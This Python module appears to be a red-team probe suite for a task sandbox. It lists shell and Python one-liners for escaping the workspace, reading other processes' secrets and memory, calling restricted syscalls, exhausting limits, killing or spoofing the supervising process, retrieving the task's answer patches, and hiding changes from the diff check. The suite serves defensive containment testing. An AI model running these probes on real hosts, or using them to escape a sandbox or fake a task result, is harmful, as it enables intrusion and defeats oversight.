"""What the attacks of `redteam` run: bash scripts by name, in the workspace of whoever is attacked.

Their environment tells them what to go for: ``SECRET`` (a file), ``OUTSIDE`` (a folder that their user may write to),
``HOLDER`` (a process with a secret), ``TCP UNIX ABSTRACT`` (servers), ``REMOTE FIXED`` (a repository and the commit
that repairs the task), the limits, and ``A`` and ``B``: a probe that got through says the two as one word, or leaves
``$OUTSIDE/plant``. A name that ends in ``(root)`` needs root where nothing stops it.
"""

from __future__ import annotations

import shlex


def _python(code: str) -> str:
    return f"python3 -ISc {shlex.quote(_PRELUDE + code)}"


_PRELUDE = """
import os, sys, socket, ctypes, signal
E = os.environ
def found(): print(E["A"] + E["B"], flush=True)
"""

ESCAPES = {
    "nested shells": """bash -c 'sh -c "echo x > $OUTSIDE/plant"'""",
    "a path upwards": 'echo x > "../../../../../../../../../..$OUTSIDE/plant"',
    "python": _python('open(E["OUTSIDE"] + "/plant", "w")'),
    "awk": """awk 'BEGIN { print "x" > ENVIRON["OUTSIDE"] "/plant" }'""",
    "awk system": """awk 'BEGIN { system("touch $OUTSIDE/plant") }'""",
    "find -exec": r'find . -maxdepth 0 -exec touch "$OUTSIDE/plant" \;',
    "git alias": """git -c alias.x='!touch "$OUTSIDE/plant"' x""",
    "git fsmonitor": """git -c core.fsmonitor='touch "$OUTSIDE/plant"; false' status""",
    "git filter": """echo '* filter=x' > .gitattributes
        git -c filter.x.clean='touch "$OUTSIDE/plant"; cat' add -A""",
    "git hook": """mkdir -p .git/hooks; printf '#!/bin/sh\\ntouch "$OUTSIDE/plant"\\n' > .git/hooks/pre-commit
        chmod +x .git/hooks/pre-commit; git commit --allow-empty -m x""",
    "git external diff": """echo >> app.py; git -c diff.external='touch "$OUTSIDE/plant"; true' diff""",
    "sed w": 'sed -n "w $OUTSIDE/plant" app.py',
    "sed e": 'sed "1e touch $OUTSIDE/plant" app.py',
    "tee": 'echo x | tee "$OUTSIDE/plant"',
    "xargs": 'echo "$OUTSIDE/plant" | xargs touch',
    "tar checkpoint": 'tar cf /dev/null --checkpoint=1 --checkpoint-action=exec="touch $OUTSIDE/plant" app.py',
    "a write through a link": 'ln -sfn "$OUTSIDE" link; echo x > link/plant',
    "a hard link": 'ln -f "$SECRET" hard; cat hard',
    "a magic link of /proc": 'cat "/proc/self/root$SECRET"; touch "/proc/thread-self/root$OUTSIDE/plant"',
    "a descriptor of /": _python("""
d = os.open("/", os.O_PATH)
print(os.read(os.open(E["SECRET"].lstrip("/"), os.O_RDONLY, dir_fd=d), 99).decode())"""),
    "root of the keeper (root)": 'cat "/proc/$PPID/root$SECRET" "/proc/1/root$SECRET"',
    "working folder of the keeper (root)": 'cat "/proc/1/cwd/$SECRET" "/proc/$PPID/cwd/../../../../..$SECRET"',
}
"""Out of the workspace, by every tool that can be made to write, read or run."""

SECRETS = {
    "a file": 'cat "$SECRET"',
    "a search": """find "${SECRET%/*}" -maxdepth 1 -type f -exec cat {} +""",
    "environment": "env",
    "everybody's environment": r"cat /proc/[0-9]*/environ | tr '\0' '\n'",
    "the process list": "ps axww; cat /proc/[0-9]*/cmdline",
    "another's environment": 'cat "/proc/$HOLDER/environ"',
    "another's command line": 'cat "/proc/$HOLDER/cmdline"',
    "another's memory": _python("""
pid = E["HOLDER"]
for line in open(f"/proc/{pid}/maps"):
    if "[stack]" in line:
        low, high = (int(part, 16) for part in line.split()[0].split("-"))
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            memory.seek(low)
            if (E["A"] + E["B"]).encode() in memory.read(high - low): found()"""),
    "another's root": 'cat "/proc/$HOLDER/root$SECRET"',
    "a signal to another": 'kill -CONT "$HOLDER" && echo "$A$B"',
    "another's limits": _python("""
import resource
resource.prlimit(int(E["HOLDER"]), resource.RLIMIT_CORE, (0, 0)); found()"""),
    "another's priority": 'renice -n 5 -p "$HOLDER" && echo "$A$B"',
    "answers in this package": 'cat "$PACKAGE"/tasks/handmade/*/fix.patch && echo "$A$B"',
    "a search for answers": """find "$PACKAGE" /usr/lib/python3* /usr/local/lib /opt -path '*/handmade/*/fix.patch' |
        grep -q . && echo "$A$B\"""",
}
"""Keys, files and processes of the host."""

_CONNECT = """
def reach(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as s:
        s.settimeout(5); s.connect(address); found()
"""
NETWORK = {
    "the host's loopback": _python(_CONNECT + 'reach(socket.AF_INET, ("127.0.0.1", int(E["TCP"])))'),
    "the host's loopback, mapped": _python(_CONNECT + 'reach(socket.AF_INET6, ("::ffff:127.0.0.1", int(E["TCP"])))'),
    "a socket file": _python(_CONNECT + 'reach(socket.AF_UNIX, E["UNIX"])'),
    "an abstract socket": _python(_CONNECT + 'reach(socket.AF_UNIX, chr(0) + E["ABSTRACT"])'),
    "the internet": _python(_CONNECT + 'reach(socket.AF_INET, ("192.0.2.1", 53), socket.SOCK_DGRAM)'),
    "vsock": _python("socket.socket(40, socket.SOCK_STREAM); found()"),
    "netlink of the firewall": _python("socket.socket(16, socket.SOCK_RAW, 12); found()"),
    "netlink of the kernel's events": _python("socket.socket(16, socket.SOCK_RAW, 15); found()"),
    "raw packets (root)": _python("socket.socket(17, socket.SOCK_RAW, 0x300); found()"),
    "a raw socket (root)": _python("socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); found()"),
}
"""Anything beyond the bridge. A datagram socket that connects sends nothing: it only finds a route."""

_CALLS: dict[str, tuple[int, int, str]] = {  # x86_64, aarch64, arguments: harmless, and refused late where allowed
    "ptrace": (101, 117, "0, 0, 0, 0"),
    "process_vm_readv": (310, 270, "os.getpid(), 0, 0, 0, 0, 0"),
    "kcmp": (312, 272, "os.getpid(), os.getpid(), 2, 0, 0"),
    "pidfd_getfd": (438, 438, "-1, 0, 0"),
    "unshare of the user": (272, 97, "0x10000000"),
    "clone of a user namespace": (56, 220, "0x10000000 | 17 | os._exit(0) if 0 else 0x50000000, 0, 0, 0, 0"),
    "clone3": (435, 435, "0, 0"),
    "setns": (308, 268, "-1, 0"),
    "io_uring_setup": (425, 425, "1, 0"),
    "keyctl": (250, 219, "0, -3, 1"),
    "add_key": (248, 217, "0, 0, 0, 0, 0"),
    "perf_event_open": (298, 241, "0, 0, 0, 0, 0"),
    "userfaultfd": (323, 282, "1"),
    "memfd_create": (319, 279, 'b"m", 0xFFFF'),
    "shmget": (29, 194, "0, 0, 0"),
    "mount (root)": (165, 40, "0, 0, 0, 0, 0"),
    "umount (root)": (166, 39, "0, 0"),
    "pivot_root (root)": (155, 41, "0, 0"),
    "chroot (root)": (161, 51, 'b"/"'),
    "fsopen (root)": (430, 430, 'b"tmpfs", 0xFF'),
    "open_tree (root)": (428, 428, 'b"/", 0, 0xFFFFFF'),
    "move_mount (root)": (429, 429, "-1, 0, -1, 0, 0"),
    "mount_setattr (root)": (442, 442, "-1, 0, 0, 0, 0"),
    "bpf (root)": (321, 280, "0, 0, 0"),
    "open_by_handle_at (root)": (304, 265, "-1, 0, 0"),
    "init_module (root)": (175, 105, "0, 0, 0"),
    "kexec_load (root)": (246, 104, "0, 0, 0, 0xFF"),
    "swapon (root)": (167, 224, "0, 0"),
    "reboot (root)": (169, 142, "0, 0, 0, 0"),
    "syslog (root)": (103, 116, "10, 0, 0"),
}


def _call(x86_64: int, aarch64: int, arguments: str) -> str:
    return _python(
        f"""
call = ctypes.CDLL(None, use_errno=True).syscall
number = {x86_64} if os.uname().machine == "x86_64" else {aarch64}
result = call(number, {arguments})
if result >= 0 or ctypes.get_errno() not in (1, 13, 38): found()"""
    )


DOORS = {name: _call(*call) for name, call in _CALLS.items()} | {
    "unshare": 'unshare -Ur true && echo "$A$B"',
    "/proc/sys (root)": ': 2> /dev/null >> /proc/sys/kernel/core_pattern && echo "$A$B"',
    "sysrq (root)": ': 2> /dev/null >> /proc/sysrq-trigger && echo "$A$B"',
    "the kernel's memory (root)": 'head -c 1 /proc/kcore > /dev/null && echo "$A$B"',
    "a disk (root)": """for disk in $(awk '$4 ~ /[a-z]/ { print "/dev/" $4 }' /proc/partitions)
        do head -c 1 "$disk" > /dev/null && echo "$A$B"; done""",
    "a new device (root)": 'mknod null c 1 3 && echo "$A$B"',
    "a control group (root)": """for root in /sys/fs/cgroup /sys/fs/cgroup/*/
        do mkdir "$root/crrl-probe" && rmdir "$root/crrl-probe" && echo "$A$B"; done""",
    "a set-user-id program (root)": _python("""
import shutil, subprocess
shutil.copy("/usr/bin/id", "id"); os.chown("id", 0, 0); os.chmod("id", 0o4755)
if subprocess.run(["./id", "-u"], capture_output=True).stdout == b"0\\n": found()"""),
    "higher priority (root)": 'nice -n -5 true 2>&1 | grep -q . || echo "$A$B"',
}
"""System calls that no repair needs, and files of the kernel. Refused is what answers EPERM, EACCES or ENOSYS."""

REFERENCE = {
    "the log of all branches": "git log --all -p",
    "the fixing commit by its name": 'git show "$FIXED"',
    "every object there is": "git cat-file --batch-all-objects --batch",
    "packs by hand": "for p in .git/objects/pack/*.idx; do git show-index < $p | cut -d' ' -f2 | xargs git show; done",
    "lost objects": "git fsck --unreachable --no-reflogs | cut -d' ' -f3 | xargs git show; git reflog show -p --all",
    "the remote": "git fetch -q origin main && git show FETCH_HEAD",
    "a clone of the remote": 'git clone -q "$REMOTE" again && git -C again log --all -p',
    "objects borrowed from the remote": """echo "$REMOTE/objects" > .git/objects/info/alternates; git show "$FIXED" """,
    "reading every file around": 'grep -rsh "$A$B" . "$OUTSIDE/.." | head -c 4096',
}
"""The repair that the task was made from."""

_FORK = """
kids = []
try:
    for _ in range({count}):
        pid = os.fork()
        if pid == 0:
            signal.pause(); os._exit(0)
        kids.append(pid)
    found()
finally:
    for pid in kids: os.kill(pid, 9)
    for pid in kids: os.waitpid(pid, 0)
"""
_FILL = """
import shutil, tempfile
size = int(E[{limit!r}]) + (1 << 20)
folder = tempfile.mkdtemp(dir={where})
try:
    files = []
    while size > 0:
        files.append(open(os.path.join(folder, str(len(files))), "wb", 0))
        {then}
        for _ in range(4):
            files[-1].write(bytes(1 << 20)); size -= 1 << 20
    found()
finally:
    shutil.rmtree(folder)
"""
LIMITS = {
    "processes": _python(_FORK.format(count='int(E["PROCESSES"]) + 16')),
    "threads": _python("""
import threading
end = threading.Event(); count = int(E["PROCESSES"]) + 16
threading.stack_size(1 << 16)
try:
    for _ in range(count): threading.Thread(target=end.wait, daemon=True).start()
    found()
finally: end.set()"""),
    "memory of one process": _python('x = b"x" * (2 * int(E["MEMORY"])); found()'),
    "memory of many processes": _python("""
import time
size, kids = int(E["MEMORY"]) * 6 // 10, []
for _ in range(3):
    if not (pid := os.fork()):
        x = b"x" * size; time.sleep(6); os._exit(0)
    kids.append(pid)
if all(os.waitpid(pid, 0)[1] == 0 for pid in kids): found()"""),
    "one large file": """head -c "$((FILE_BYTES + (1 << 20)))" /dev/zero > big
        test "$(stat -c %s big)" -gt "$FILE_BYTES" && echo "$A$B"; rm big""",
    "/tmp": _python(_FILL.format(limit="TMP_BYTES", where='"/tmp"', then="pass")),
    "/dev/shm": _python(_FILL.format(limit="TMP_BYTES", where='"/dev/shm"', then="pass")),
    "the workspace": _python(_FILL.format(limit="DISK_BYTES", where='"."', then="pass")),
    "files that are deleted but open": _python(
        _FILL.format(limit="DISK_BYTES", where='"."', then="os.unlink(files[-1].name)")
    ),
    "a great many files": _python("""
import shutil, time
os.mkdir("many")
try:
    for number in range(int(E["FILES"]) + 99): open(f"many/{number}", "w").close()
    time.sleep(6); found()
finally: shutil.rmtree("many")"""),
    "CPU time": _python("""
import time
while time.process_time() < int(E["CPU_SECONDS"]) + 2: pass
found()"""),
    "open files": _python("""
import resource
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
for _ in range(int(E["OPEN_FILES"])): os.dup(0)
found()"""),
}
"""More than is allowed, of everything; bounded, so that it can be tried on a host."""

LIFETIME = {
    "killing the keeper": "kill -9 $PPID; kill -9 1; sleep 0.2",
    "stopping the keeper": "kill -STOP $PPID; kill -STOP 1; sleep 0.2",
    "asking the keeper to end": "kill $PPID; kill 1; kill -HUP $PPID; kill -INT $PPID; kill -INT 1; sleep 0.2",
    "killing everything": "kill -9 -1; sleep 0.2",
    "its descriptors": _python("""
for pid in (os.getppid(), os.getppid() and 1):
    try: names = os.listdir(f"/proc/{pid}/fd")
    except OSError: continue
    if pid != 1 or os.getppid() == 1: os.kill(pid, 9)"""),
    "a forged frame": _python("""
import json, struct
said = (E["A"] + E["B"]).encode()
head = json.dumps({"code": 0, "output": said.decode()}).encode()
frame = struct.pack(">II", len(head), len(said)) + head + said
for number in range(3, 256):
    try: os.write(number, frame)
    except OSError: pass
for pid in (1, os.getppid()):
    for number in range(3, 64):
        try: open(f"/proc/{pid}/fd/{number}", "wb", 0).write(frame)
        except OSError: pass"""),
    "its memory": _python("""
code = b""
pid = os.getppid()
for line in open(f"/proc/{pid}/maps"):
    if " rw-p " in line and "[heap]" in line:
        low, high = (int(part, 16) for part in line.split()[0].split("-"))
        with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            memory.seek(low); memory.write(bytes(high - low))"""),
}
"""Against the process that runs commands and answers for them. It is the parent of each."""

KEEPER = """
import socket, subprocess, sys
ours = socket.socket(fileno=int(sys.argv[1]))
subprocess.run(["bash", "-c", sys.argv[2]], pass_fds=[ours.fileno()], stdin=subprocess.DEVNULL)
ours.sendall(b"fine\\n")
"""
"""A keeper as one would write it first: an ordinary parent whose socket its commands inherit."""

FIX = "sed -i 's/a - b/a + b/' app.py; echo added > new.txt"
"""The repair that a diff must show, whatever else was done."""

_MARK = 'touch "$PWD/RAN"'
DIFF = {
    "a commit": "git add -A; git commit -qm done",
    "a hook": f"""mkdir -p .git/hooks; printf '#!/bin/sh\\n{_MARK}\\n' > .git/hooks/post-index-change
        chmod +x .git/hooks/post-index-change""",
    "fsmonitor": f"git config core.fsmonitor '{_MARK}; false'",
    "a clean filter": f"git config filter.x.clean '{_MARK}; echo gone'; echo '* filter=x' > .git/info/attributes",
    "a filter process": f"git config filter.x.process '{_MARK}; false'; echo '* filter=x' > .gitattributes",
    "textconv": f"git config diff.x.textconv '{_MARK}; echo gone'; echo '* diff=x' > .git/info/attributes",
    "an external diff": f"git config diff.external '{_MARK}; true'",
    "an included configuration": f"printf '[core]\\n\\tfsmonitor = {_MARK}; false\\n' | tr -d '\"' > .git/more"
    "; git config include.path more",
    "attributes of the tree": "echo '* -diff' > .gitattributes",
    "ignored files": "echo '*' > .gitignore",
    "the exclude file": "echo '*' > .git/info/exclude",
    "unchanged by declaration": "git update-index --assume-unchanged app.py",
    "skipped by declaration": "git update-index --skip-worktree app.py",
    "a sparse checkout": "git config core.sparseCheckout true; git config index.sparse true; "
    "printf '/new.txt\\n' > .git/info/sparse-checkout; git update-index --skip-worktree app.py",
    "no repository": "rm -rf .git",
    "no HEAD": "rm .git/HEAD",
    "a broken index": "echo x > .git/index",
    "a locked index": "touch .git/index.lock",
    "a repository elsewhere": "rm -rf .git; ln -s /nonexistent .git",
    "a worktree elsewhere": "git config core.worktree /tmp",
    "a bare repository": "git config core.bare true",
    "another HEAD": "git checkout -q --orphan other; git add -A; git commit -qm x",
    "a replaced commit": "old=$(git rev-parse HEAD); git add -A; new=$(git commit-tree $(git write-tree) -m x); "
    "git replace $old $new",
    "an alternate that is gone": "rm -rf .git/objects/*; mkdir -p .git/objects/info; "
    "echo /nonexistent > .git/objects/info/alternates",
    "a nested repository": "mkdir in; git init -q in; mv new.txt in; cd in; git add -A; "
    "git -c user.name=a -c user.email=a@a commit -qm x",
    "a submodule": "mkdir in; git init -q in; mv new.txt in; cd in; git add -A; "
    "git -c user.name=a -c user.email=a@a commit -qm x; cd ..; "
    "git -c protocol.file.allow=always submodule add -q ./in in",
    "a fifo": "mkfifo pipe",
    "a socket": "python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"sock\")'",
    "bytes that are no text": r"printf '\377\376' > bytes",
    "a name that is no text": r"echo x > $'\377'",
    "a name of two lines": r"echo x > $'a\nb'",
    "a file that nobody may read": "chmod 000 new.txt",
    "a folder that nobody may enter": "mkdir shut; mv new.txt shut; chmod 000 shut",
    "a link to itself": "ln -s loop loop",
}
"""Ways to hide a change from whoever looks for it, or to have him run something."""
